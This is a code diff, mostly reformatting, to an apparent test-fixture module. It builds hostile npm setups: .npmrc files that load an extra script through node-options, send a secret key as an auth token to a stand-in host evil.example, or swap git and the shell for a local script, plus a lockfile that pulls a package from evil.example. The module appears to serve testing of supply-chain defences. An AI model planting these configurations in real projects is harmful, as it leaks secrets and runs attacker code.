@@ -13,7 +13,17 @@ function npmrc(words: string, lines: (place: Place) => string, realNpm = false):
   };
 }
 
-const STAGES = ["preinstall", "install", "postinstall", "prepare", "prepublish", "dependencies", "synth", "check", "pretypha-mtls"];
+const STAGES = [
+  "preinstall",
+  "install",
+  "postinstall",
+  "prepare",
+  "prepublish",
+  "dependencies",
+  "synth",
+  "check",
+  "pretypha-mtls",
+];
 
 function givesScripts(place: Place): void {
   place.json("package.json", (manifest) => {
@@ -24,7 +34,10 @@ function givesScripts(place: Place): void {
 
 /** A program of our name whose every run tells. */
 function writePackage(place: Place, folder: string): void {
-  place.write(`${folder}/package.json`, '{ "name": "typha-mtls", "version": "0.1.0", "bin": { "typha-mtls": "cli.js" } }\n');
+  place.write(
+    `${folder}/package.json`,
+    '{ "name": "typha-mtls", "version": "0.1.0", "bin": { "typha-mtls": "cli.js" } }\n',
+  );
   place.write(`${folder}/cli.js`, place.canary.module("a package of the request"), 0o755);
 }
 
@@ -43,6 +56,10 @@ function manifest(place: Place, change: (manifest: Manifest) => void): void {
   place.write("package.json", `${JSON.stringify(value, null, 2)}\n`);
 }
 
+function pin({ devDependencies }: Manifest, name: string, version: string): void {
+  devDependencies[name] = version;
+}
+
 const OURS = "node_modules/typha-mtls";
 
 /** Files that steer npm, node and programs that start in a folder. */
@@ -52,15 +69,30 @@ export const PACKAGE_MANAGER: readonly Request[] = [
   npmrc("gives options to node", () => "node-options=--require ./x.cjs\n"),
   npmrc("gives options to node, and npm is the real one", () => "node-options=--require ./x.cjs\n", true),
   {
-    ...npmrc("lets scripts run, which package.json holds", () => "ignore-scripts=false\nforeground-scripts=true\n", true),
+    ...npmrc(
+      "lets scripts run, which package.json holds",
+      () => "ignore-scripts=false\nforeground-scripts=true\n",
+      true,
+    ),
     edit(place) {
       givesScripts(place);
       place.write(".npmrc", "ignore-scripts=false\nforeground-scripts=true\n");
     },
   },
-  npmrc("names another registry, with a token for it", () => "registry=https://evil.example/\n//evil.example/:_authToken=${SOPS_AGE_KEY}\n"),
-  npmrc("names folders of the checkout for npm's own files", () => "prefix=./p\nuserconfig=./u\nglobalconfig=./g\ncache=./c\n", true),
-  npmrc("names a git and an editor", () => "git=./x.sh\neditor=./x.sh\nviewer=./x.sh\nshell=./x.sh\nbrowser=./x.sh\n", true),
+  npmrc(
+    "names another registry, with a token for it",
+    () => "registry=https://evil.example/\n//evil.example/:_authToken=${SOPS_AGE_KEY}\n",
+  ),
+  npmrc(
+    "names folders of the checkout for npm's own files",
+    () => "prefix=./p\nuserconfig=./u\nglobalconfig=./g\ncache=./c\n",
+    true,
+  ),
+  npmrc(
+    "names a git and an editor",
+    () => "git=./x.sh\neditor=./x.sh\nviewer=./x.sh\nshell=./x.sh\nbrowser=./x.sh\n",
+    true,
+  ),
   {
     title: "package.json holds scripts of every stage",
     edit: givesScripts,
@@ -75,7 +107,7 @@ export const PACKAGE_MANAGER: readonly Request[] = [
     replacesProgram: true,
     edit(place) {
       writePackage(place, "tools/t");
-      manifest(place, ({ devDependencies }) => void (devDependencies["typha-mtls"] = "file:tools/t"));
+      manifest(place, (value) => pin(value, "typha-mtls", "file:tools/t"));
       lock(place, "package-lock.json", ({ packages }) => {
         packages[""]!["devDependencies"] = { "typha-mtls": "file:tools/t" };
         packages[OURS] = { resolved: "tools/t", link: true };
@@ -116,14 +148,14 @@ export const PACKAGE_MANAGER: readonly Request[] = [
     replacesProgram: true,
     edit(place) {
       place.remove("package-lock.json");
-      manifest(place, ({ devDependencies }) => void (devDependencies["typha-mtls"] = "*"));
+      manifest(place, (value) => pin(value, "typha-mtls", "*"));
     },
   },
   {
     title: "another package of the lock brings a program of our name",
     edit(place) {
       const { integrity } = place.attempt.scene.tarballs.evil;
-      manifest(place, ({ devDependencies }) => void (devDependencies["zz-tool"] = "1.0.0"));
+      manifest(place, (value) => pin(value, "zz-tool", "1.0.0"));
       lock(place, "package-lock.json", ({ packages }) => {
         const url = "https://evil.example/zz-tool.tgz";
         packages["node_modules/zz-tool"] = { version: "0.1.0", resolved: url, integrity, dev: true };
@@ -159,7 +191,11 @@ export const PACKAGE_MANAGER: readonly Request[] = [
     title: "a committed node_modules lies in the folders that programs start in",
     edit(place) {
       for (const folder of ["clusters", "clusters/demo", "dist"])
-        place.write(`${folder}/node_modules/.bin/typha-mtls`, place.canary.script(`${folder}/node_modules/.bin`), 0o755);
+        place.write(
+          `${folder}/node_modules/.bin/typha-mtls`,
+          place.canary.script(`${folder}/node_modules/.bin`),
+          0o755,
+        );
       place.commit();
     },
   },
@@ -206,4 +242,3 @@ export const PACKAGE_MANAGER: readonly Request[] = [
     },
   },
 ];
-
